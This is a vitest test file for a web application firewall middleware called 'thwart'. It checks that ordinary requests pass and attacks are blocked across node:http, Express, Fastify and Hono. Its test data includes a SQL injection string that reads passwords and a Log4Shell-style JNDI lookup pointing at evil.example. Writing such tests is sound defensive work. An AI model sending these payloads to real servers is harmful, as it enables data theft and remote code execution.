import { createServer, type RequestListener, type Server } from "node:http"
import { connect } from "node:net"
import { getRequestListener } from "@hono/node-server"
import express from "express"
import express4 from "express4"
import Fastify from "fastify"
import { Hono } from "hono"
import { afterAll, describe, expect, it } from "vitest"
import type { Alert } from "../../core/index.ts"
import { thwart as expressGuard } from "./express.ts"
import { thwart as fastifyGuard } from "./fastify.ts"
import type { ThwartOptions } from "./guard.ts"
import { thwart as honoGuard } from "./hono.ts"
import { thwart as httpGuard } from "./http.ts"

/** What the application saw: the same in every framework, or nothing. */
interface Seen {
  readonly path: string
  readonly body: unknown
}

interface Built {
  readonly listener: RequestListener
  close?(): Promise<unknown>
}

type Build = (options: ThwartOptions, seen: Seen[]) => Promise<Built>

function withExpress(create: typeof express): Build {
  return async (options, seen) => {
    const app = create()
    app.use(expressGuard(options))
    app.use(create.json(), create.urlencoded({ extended: true }), create.text({ type: "text/*" }))
    app.use((request, response) => {
      seen.push({ path: request.path, body: request.body })
      response.type("text/plain").send("x".repeat(request.path === "/large" ? 1_000_000 : 2))
    })
    return { listener: app }
  }
}

const frameworks: Readonly<Record<string, Build>> = {
  "node:http": async (options, seen) => {
    const application: RequestListener = async (request, response) => {
      const chunks: Buffer[] = []
      for await (const chunk of request) chunks.push(chunk)
      const text = Buffer.concat(chunks).toString()
      const isJson = request.headers["content-type"] === "application/json"
      seen.push({ path: (request.url ?? "").split("?")[0] ?? "", body: isJson ? JSON.parse(text) : text })
      response.end("x".repeat(request.url === "/large" ? 1_000_000 : 2))
    }
    return { listener: httpGuard(options).wrap(application) }
  },
  "express 5": withExpress(express),
  // The cast holds: what is used of both is the same.
  "express 4": withExpress(express4 as unknown as typeof express),
  "fastify 5": async (options, seen) => {
    const app = Fastify()
    await app.register(fastifyGuard, options)
    app.addContentTypeParser("application/x-www-form-urlencoded", { parseAs: "string" }, (_, body, done) =>
      done(null, body),
    )
    app.all("/*", async (request) => {
      seen.push({ path: request.url.split("?")[0] ?? "", body: request.body ?? "" })
      return "x".repeat(request.url === "/large" ? 1_000_000 : 2)
    })
    await app.ready()
    return { listener: (request, response) => app.routing(request, response), close: () => app.close() }
  },
  hono: async (options, seen) => {
    const app = new Hono()
    app.use(honoGuard(options))
    app.all("/*", async (context) => {
      const isJson = context.req.header("content-type") === "application/json"
      seen.push({ path: context.req.path, body: isJson ? await context.req.json() : await context.req.text() })
      return context.text("x".repeat(context.req.path === "/large" ? 1_000_000 : 2))
    })
    return { listener: getRequestListener(app.fetch) as RequestListener }
  },
}

const json = { "content-type": "application/json" }
const form = { "content-type": "application/x-www-form-urlencoded" }
const multipart = { "content-type": "multipart/form-data; boundary=b" }
const partOf = (value: string) => `--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n${value}\r\n--b--\r\n`
const sqli = "1' UNION SELECT password FROM users-- "

const good: readonly (readonly [what: string, path: string, init: RequestInit])[] = [
  ["a page", "/shop?q=blue+shirt", {}],
  ["JSON", "/cart", { method: "POST", headers: json, body: '{"items":[1,2,{"name":"shirt"}]}' }],
  ["a form", "/form", { method: "POST", headers: form, body: "name=Ada&city=London" }],
  ["a long answer", "/large", {}],
]

const bad: readonly (readonly [what: string, path: string, init: RequestInit])[] = [
  ["the query", `/shop?id=${encodeURIComponent(sqli)}`, {}],
  ["a header", "/shop", { headers: { referer: "${jndi:ldap://evil.example/a}" } }],
  ["a form", "/form", { method: "POST", headers: form, body: `name=${encodeURIComponent(sqli)}` }],
  ["JSON", "/cart", { method: "POST", headers: json, body: JSON.stringify({ name: sqli }) }],
  ["multipart", "/upload", { method: "POST", headers: multipart, body: partOf(sqli) }],
]

const servers: { readonly server: Server; readonly built: Built }[] = []
afterAll(async () => {
  for (const { server, built } of servers) {
    await built.close?.()
    server.closeAllConnections()
    await new Promise((resolve) => server.close(resolve))
  }
})

async function start(build: Build, options: ThwartOptions) {
  const seen: Seen[] = []
  const alerts: Alert[] = []
  const built = await build({ ...options, onAlert: (alert) => alerts.push(alert) }, seen)
  const server = createServer(built.listener)
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  servers.push({ server, built })
  const address = server.address()
  const port = typeof address === "object" && address !== null ? address.port : 0
  return {
    seen,
    alerts,
    port,
    ask: (path: string, init: RequestInit) => fetch(`http://127.0.0.1:${port}${path}`, init),
  }
}

describe.each(Object.entries(frameworks))("thwart in %s", (_name, build) => {
  it("lets good requests through as they are, in both modes", async () => {
    expect(good).toHaveLength(4)
    for (const mode of ["monitor", "block"] as const) {
      const { ask, seen, alerts } = await start(build, { mode })
      for (const [what, path, init] of good) {
        const answer = await ask(path, init)
        expect([what, answer.status, (await answer.text()).length]).toEqual([
          what,
          200,
          path === "/large" ? 1_000_000 : 2,
        ])
      }
      expect(seen.map(({ path }) => path)).toEqual(["/shop", "/cart", "/form", "/large"])
      expect(seen[1]?.body).toEqual({ items: [1, 2, { name: "shirt" }] })
      expect(alerts).toEqual([])
    }
  })

  it("refuses attacks wherever they stand, before the application sees them", async () => {
    const { ask, seen, alerts } = await start(build, { mode: "block" })
    for (const [what, path, init] of bad) {
      const answer = await ask(path, init)
      expect([what, answer.status, answer.headers.get("x-thwart")]).toEqual([what, 403, "refused"])
      await answer.text()
    }
    expect(seen).toEqual([])
    expect(alerts).toHaveLength(bad.length)
    expect(bad).toHaveLength(5)
    // The server is in order behind it.
    expect((await ask("/shop", {})).status).toBe(200)
  })

  it("only tells of them when it monitors, and of those of friends", async () => {
    for (const options of [{ mode: "monitor" }, { mode: "block", allow: ["127.0.0.0/8"] }] as const) {
      const { ask, seen, alerts } = await start(build, options)
      const [, path, init] = bad[0] ?? ["", "", {}]
      expect((await ask(path, init)).status).toBe(200)
      expect(seen).toHaveLength(1)
      await expect.poll(() => alerts.length).toBe(1)
      expect(alerts[0]?.source.address).toBe("127.0.0.1")
    }
  })

  it("goes on when clients leave in the middle", async () => {
    const { port, ask } = await start(build, { mode: "block" })
    const socket = connect(port, "127.0.0.1")
    await new Promise((resolve) => socket.once("connect", resolve))
    socket.write("POST /cart HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{")
    await new Promise((resolve) => setTimeout(resolve, 50))
    socket.destroy()
    const answers = await Promise.all(Array.from({ length: 20 }, () => ask("/shop?q=shirt", {})))
    expect(answers.map(({ status }) => status)).toEqual(new Array(20).fill(200))
  })
})

describe("settings", () => {
  it.each([
    [{ paranoiaLevel: 7 }, /paranoia level 7/],
    [{ allow: ["everybody"] }, /"everybody" is not an address/],
    [{ rules: ["/nowhere/rules"] }, /can't be read/],
  ] as const)("%j are refused", (options, message) => {
    expect(() => httpGuard(options)).toThrow(message)
  })
})
